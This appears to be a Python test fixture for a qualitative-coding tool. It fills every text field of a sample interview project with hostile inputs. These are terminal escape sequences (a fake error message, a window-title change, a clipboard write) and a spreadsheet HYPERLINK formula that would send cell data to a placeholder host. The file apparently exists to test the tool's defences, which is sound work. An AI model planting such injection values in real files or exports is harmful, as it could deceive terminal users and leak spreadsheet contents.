"""A small coded project whose every text field carries what a hostile or careless file
can bring: terminal control sequences (ESC, OSC, CSI, C1) or spreadsheet formulas.

Each field is filled the way such text really arrives: the transcript and its name from
an imported file, the codebook through the project's API, participants, waves and memos
as a person would type them, and code and coder names straight into the database (with
the naming rules they could only arrive by a merge of an older or crafted file).
"""

from __future__ import annotations

from pathlib import Path

from qualcode import Project
from qualcode.records import MemoLink

# Window title (OSC 0), clear screen and a red "error" (CSI), a clipboard write (OSC 52),
# an 8-bit CSI (C1), a bell, a backspace and a carriage return.
ESCAPES = ("\x1b]0;PWNED\x07\x1b[2J\x1b[31mFAKE ERROR\x1b[0m\x1b]52;c;aGk=\x07"
           "\x9b7m\x08\r")
# What a spreadsheet would run.
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'

TEXT_LINES = [
    "Interviewer: How did you first hear about the walking group at the centre?",
    "P01: My doctor told me about it. {payload} She said my blood pressure was high.",
    "Interviewer: What happened next, after the first few weeks of walking together?",
    "P01: We went walking together every Tuesday morning by the canal, rain or shine.",
    "Interviewer: And how do you feel about all of it now, looking back on the year?",
    "P01: {payload} It changed my life really, and I lost two stone over the year.",
]


def transcript_text(payload: str) -> str:
    # Long enough that a few control characters do not make it look like a binary file.
    lines = [line.format(payload=payload) for line in TEXT_LINES] * 3
    return "\n\n".join(lines) + "\n"


def build(folder: Path, payload: str, *, name_key: bool = False) -> Path:
    """Build ``folder/study.qualcode`` with ``payload`` in every text field; returns it."""
    folder.mkdir(parents=True, exist_ok=True)
    source = folder / f"{payload.replace('/', '_')}p01_w1.txt"  # a file name holds no slash
    source.write_text(transcript_text(payload), encoding="utf-8")
    path = folder / "study.qualcode"
    with Project.create(path, title=f"Study {payload}") as project:
        project.coder = "anna"
        project.study.add_wave("W1", description=f"{payload}Start")
        project.study.add_wave(f"{payload}W2")
        project.study.add_participant("P01", role=f"{payload}client", site=f"{payload}Site",
                                pseudonym=f"{payload}Sharon", attributes={"job": f"{payload}nurse"})
        name = project.transcripts.import_transcript(source, participant="P01", wave="W1").name
        project.codebook.add_code("Walking", definition=f"{payload} definition", example=f"{payload} example",
                         inclusion=f"{payload} include", keywords=[f"{payload}walk", "canal"])
        project.codebook.add_code("Referral", definition="Who sent them.")
        text = project.transcripts.get(name).text
        start = text.index("My doctor")
        project.coding.apply_spans([(name, "Walking", start, start + 60), (name, "Referral", start, start + 30)],
                            summary="coded")
        coding = project.coding.codings(code="Walking")[0].id
        project.coding.set_coding_memo(coding, f"{payload} coding memo")
        project.memos.add("code", f"{payload} memo title", f"{payload} memo body", links=[MemoLink("code", "Walking")])
        if name_key:
            project.privacy.add_name(f"{payload}Margaret", "Maggie", participant="P01")
        # Names the codebook rules refuse today, as an older or crafted file brings them.
        project.db.execute("UPDATE codes SET name = ? WHERE name = 'Referral'", [f"{payload}Referral"])
        project.db.execute("INSERT INTO coders (guid, name, created) VALUES "
                           "('6a1f0f50-3f0a-4a59-9d0b-0f3f4c1d2e3f', ?, '2024-01-01')", [f"{payload}ben"])
        project.db.conn.commit()
        project.coder = f"{payload}ben"
        project.coding.apply_spans([(name, "Walking", start, start + 20)], summary="coded by ben")
    return path
